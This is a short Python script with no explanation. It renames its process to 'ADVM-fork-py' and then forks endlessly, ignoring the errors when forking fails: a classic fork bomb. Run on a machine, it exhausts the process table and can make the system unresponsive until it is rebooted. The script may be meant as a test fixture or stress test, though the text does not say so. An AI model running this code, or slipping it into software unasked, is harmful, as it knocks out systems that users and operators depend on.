import os

with open("/proc/self/comm", "w") as f:
    f.write("ADVM-fork-py")
while True:
    try:
        os.fork()
    except OSError:
        pass
